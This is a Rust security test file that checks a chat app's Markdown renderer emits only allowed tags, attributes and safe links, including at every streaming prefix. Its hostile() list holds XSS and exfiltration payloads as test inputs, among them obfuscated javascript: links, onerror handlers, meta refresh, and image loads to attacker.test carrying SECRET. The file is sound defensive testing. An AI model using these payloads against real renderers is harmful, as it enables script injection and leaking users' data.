//! SECURITY C1–C8 against the Markdown renderer: hostile model output renders with only the
//! renderer's own tags and attributes, no script-capable attribute, no unsafe `href`, no remote
//! `src` — also at every prefix while it streams (C6). Runs natively and in Chromium.

use palaver_render::render_markdown;

const TAGS: [&str; 26] = [
    "p",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "blockquote",
    "div",
    "button",
    "pre",
    "code",
    "ol",
    "ul",
    "li",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "em",
    "strong",
    "del",
    "a",
    "span",
];
const VOID: [&str; 3] = ["br", "hr", "input"];
const ATTRIBUTES: [&str; 12] = [
    "class",
    "start",
    "href",
    "rel",
    "referrerpolicy",
    "target",
    "title",
    "type",
    "data-src",
    "disabled",
    "checked",
    "aria-label",
];

/// Every tag of `html` is one of the renderer's, with allowed attributes and a safe `href`.
fn assert_safe(input: &str, html: &str) {
    let mut rest = html;
    while let Some(open) = rest.find('<') {
        let after = &rest[open + 1..];
        let close = after
            .find('>')
            .unwrap_or_else(|| panic!("unclosed tag in {html:?}"));
        let tag = &after[..close];
        rest = &after[close + 1..];
        let tag = tag.trim_start_matches('/');
        let name: String = tag
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric())
            .collect();
        assert!(
            TAGS.contains(&name.as_str()) || VOID.contains(&name.as_str()),
            "tag <{name}> from {input:?}: {html}"
        );
        for attribute in attributes(&tag[name.len()..]) {
            let (key, value) = attribute;
            assert!(
                ATTRIBUTES.contains(&key.as_str()),
                "attribute {key} from {input:?}: {html}"
            );
            if key == "href" {
                let lower = value.to_ascii_lowercase();
                assert!(
                    lower.starts_with("http://")
                        || lower.starts_with("https://")
                        || lower.starts_with("mailto:")
                        || !lower.contains(':'),
                    "unsafe href {value:?} from {input:?}"
                );
            }
        }
    }
}

/// `key="value"` pairs of a tag (values are escaped by the renderer, so they hold no quotes).
fn attributes(text: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut rest = text.trim();
    while !rest.is_empty() {
        let eq = rest.find('=').unwrap_or(rest.len());
        let key = rest[..eq].trim().to_string();
        let after = rest.get(eq + 1..).unwrap_or("").trim_start();
        let value_end = after
            .get(1..)
            .and_then(|v| v.find('"'))
            .map_or(after.len(), |i| i + 2);
        let value = after
            .get(1..value_end.saturating_sub(1))
            .unwrap_or("")
            .to_string();
        if !key.is_empty() {
            out.push((key, value));
        }
        rest = after.get(value_end..).unwrap_or("").trim_start();
    }
    out
}

fn hostile() -> Vec<String> {
    let mut cases: Vec<String> = [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](<java\nscript:alert(1)>)",
        "[x]( javascript:alert(1))",
        "[x](\u{1}javascript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](&#x6A;avascript:alert(1))",
        "[x](%6A%61%76%61script:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](file:///etc/passwd)",
        "[x](blob:https://a/b)",
        "[x](chrome://settings)",
        "[x](view-source:https://a)",
        "![a](https://attacker.test/log?d=SECRET)",
        "![a][r]\n\n[r]: https://attacker.test/log?d=SECRET",
        "[![a][r]][l]\n\n[r]: https://attacker.test/x\n[l]: javascript:alert(1)",
        "<img src=https://attacker.test/x>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><image href=https://attacker.test/x>",
        "<picture><source srcset=https://attacker.test/x>",
        "<video poster=https://attacker.test/x>",
        "<link rel=prefetch href=https://attacker.test/x>",
        "<a ping=https://attacker.test href=https://ok.test>x</a>",
        "<div style=\"background:url(https://attacker.test/x)\">x</div>",
        "<style>@import url(https://attacker.test/x)</style>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<form action=https://attacker.test><button>go</button></form>",
        "<meta http-equiv=refresh content=\"0;url=https://attacker.test\">",
        "<base href=https://attacker.test/>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<script>window.__xss = 1</script>",
        "```html\n<img src=x onerror=alert(1)>\n```",
        "`<script>`",
        "<https://attacker.test/?d=SECRET>",
        "[ok](https://example.com \"title\" onclick=\"x\")",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    cases.push(format!("```\n{}\n```", "x".repeat(1 << 20)));
    cases
}

#[cfg_attr(not(target_arch = "wasm32"), test)]
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
fn c1_to_c8_hostile_markdown_renders_inert() {
    for input in hostile() {
        let html = render_markdown(&input);
        assert_safe(&input, &html);
        assert!(!html.contains("<img"), "no image element: {html}");
        assert!(
            !html.to_ascii_lowercase().contains("javascript:\""),
            "{html}"
        );
    }
}

#[cfg_attr(not(target_arch = "wasm32"), test)]
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
fn c6_every_streaming_prefix_renders_inert() {
    for input in hostile().iter().filter(|s| s.len() < 400) {
        let mut ends: Vec<usize> = input.char_indices().map(|(i, _)| i).collect();
        ends.push(input.len());
        for end in ends {
            assert_safe(&input[..end], &render_markdown(&input[..end]));
        }
    }
    for split in [
        "[x](java|script:alert(1))",
        "![a](https://attack|er.test/?d=1)",
        "[x](&#10|6;avascript:alert(1))",
    ] {
        let whole = split.replace('|', "");
        assert_safe(&whole, &render_markdown(&whole));
    }
}

#[cfg_attr(not(target_arch = "wasm32"), test)]
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
fn safe_markdown_still_renders() {
    let html = render_markdown("# Title\n\nSome **bold** and `code`, a [link](https://example.com/a?b=1&c=2) and [rel](docs/a.md).\n\n```rust\nfn main() {}\n```\n\n- [x] done\n- [ ] todo\n\n![diagram](https://example.com/d.png)");
    assert!(html.contains("<h1>Title</h1>"));
    assert!(html.contains("<strong>bold</strong>") && html.contains("<code>code</code>"));
    assert!(html.contains("<a href=\"https://example.com/a?b=1&amp;c=2\" rel=\"noopener noreferrer nofollow\" referrerpolicy=\"no-referrer\" target=\"_blank\">link</a>"), "{html}");
    assert!(html.contains("<a href=\"docs/a.md\""));
    assert!(html.contains("class=\"language-rust\">fn main() {}"));
    assert!(html.contains("<button type=\"button\" class=\"copy\">Copy</button>"));
    assert!(html.contains("<button type=\"button\" class=\"insert-code\">Insert</button>"));
    assert!(
        html.contains("class=\"remote-image\" data-src=\"https://example.com/d.png\""),
        "{html}"
    );
    assert!(
        html.contains("checked=\"\" aria-label=\"done\"> done"),
        "{html}"
    );
    let refused = render_markdown("[x](javascript:alert(1))");
    assert!(
        refused.contains("<span class=\"refused-link\"") && !refused.contains("href"),
        "{refused}"
    );
}

/// Issue 38: Markdown as GitHub draws it — a table's header row in header cells, a task list's
/// markers as read-only checkboxes (no script reads them; they are disabled).
#[cfg_attr(not(target_arch = "wasm32"), test)]
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
fn tables_have_header_cells_and_task_lists_have_checkboxes() {
    let table = render_markdown("| a | b |\n|---|---|\n| 1 | 2 |\n");
    assert!(
        table.contains("<thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>"),
        "{table}"
    );
    let tasks = render_markdown("- [x] done\n- [ ] to do\n");
    assert!(
        tasks.contains(
            "<input type=\"checkbox\" disabled=\"\" checked=\"\" aria-label=\"done\"> done"
        ),
        "{tasks}"
    );
    assert!(
        tasks.contains("<input type=\"checkbox\" disabled=\"\" aria-label=\"not done\"> to do"),
        "{tasks}"
    );
    assert!(!tasks.contains("[x]"), "{tasks}");
    for html in [table, tasks] {
        assert_safe("tables and tasks", &html);
    }
}
